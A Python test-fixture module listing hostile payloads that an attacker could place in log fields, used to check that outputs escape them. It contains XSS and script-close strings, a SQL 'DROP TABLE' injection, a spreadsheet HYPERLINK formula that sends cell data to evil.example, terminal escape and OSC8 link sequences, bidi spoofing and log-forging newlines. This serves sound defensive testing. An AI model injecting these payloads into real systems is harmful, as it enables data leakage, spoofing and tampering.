"""One catalogue of hostile payloads for every output test: what an attacker can put in a log field.

Each payload is a name an attacker controls (host, user, file, command line). Output tests take
them from here, so that a new payload reaches every output at once. ``CONTROL`` holds the
characters that must never reach a terminal or an XML file raw; ``XML_INVALID`` those an XML 1.0
parser refuses.
"""

from __future__ import annotations

ESC = "\x1b"

XSS = '"><img src=x onerror="window.__pwned=1">'
SCRIPT_CLOSE = "</script><script>window.__pwned=2</script>"
LINE_SEPARATOR = "a\u2028b\u2029c"  # ends a JavaScript string literal in old engines
SQL = "x'; DROP TABLE events; --"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\uff1d1+1")
RICH_MARKUP = "[/x][bold]mallory[/bold]"
CLEAR_SCREEN = ESC + "[2J" + ESC + "[H"
COLOUR = ESC + "[31;1mred" + ESC + "[0m"
OSC8_LINK = ESC + "]8;;http://evil.example/" + ESC + "\\click" + ESC + "]8;;" + ESC + "\\"
TITLE = ESC + "]0;pwned\x07"  # sets the terminal's window title
C1 = "\x9b2J\x9d8;;http://evil.example/\x9c"  # CSI and OSC as single C1 characters
BIDI = "exe.\u202etxt.doc"  # shows as "exe.cod.txt"
ZERO_WIDTH = "ws\u200b-01"
XML_INVALID = "".join(chr(c) for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20))) + "\ufffe\uffff"
NEWLINE = "ws-01\nrejected: forged line"

#: Every payload by name, for parametrised tests.
PAYLOADS: dict[str, str] = {
    "xss": XSS,
    "script-close": SCRIPT_CLOSE,
    "u2028": LINE_SEPARATOR,
    "sql": SQL,
    "formula": FORMULA,
    "rich-markup": RICH_MARKUP,
    "clear-screen": CLEAR_SCREEN,
    "colour": COLOUR,
    "osc8-link": OSC8_LINK,
    "title": TITLE,
    "c1": C1,
    "bidi": BIDI,
    "zero-width": ZERO_WIDTH,
    "xml-invalid": XML_INVALID,
    "newline": NEWLINE,
}

#: A host name that carries every terminal-hostile payload at once (and rich markup).
TERMINAL_HOST = "ws-" + CLEAR_SCREEN + OSC8_LINK + COLOUR + C1 + BIDI + RICH_MARKUP
#: A host name with every character XML 1.0 refuses, readable around them.
XML_HOST = "ws-evil" + XML_INVALID + "-end"

#: Characters that must never reach a terminal from data: C0 (but newline), DEL, C1, bidi overrides
#: and isolates, zero-width and line/paragraph separators.
CONTROL = frozenset(
    [chr(c) for c in range(0x20) if c != 0x0A]
    + [chr(c) for c in range(0x7F, 0xA0)]
    + [chr(c) for c in (0x200B, 0x200E, 0x200F, 0x2028, 0x2029)]
    + [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]
)


def raw_controls(text: str) -> set[str]:
    """The characters of ``CONTROL`` in ``text`` (what a test asserts is empty)."""
    return {c for c in text if c in CONTROL}


def raw_control_bytes(data: bytes) -> set[int]:
    """C0 bytes but newline, and DEL, in ``data``; with C1 and bidi controls in its UTF-8 text."""
    found = {b for b in data if (b < 0x20 and b != 0x0A) or b == 0x7F}
    return found | {ord(c) for c in raw_controls(data.decode("utf-8", "replace"))}
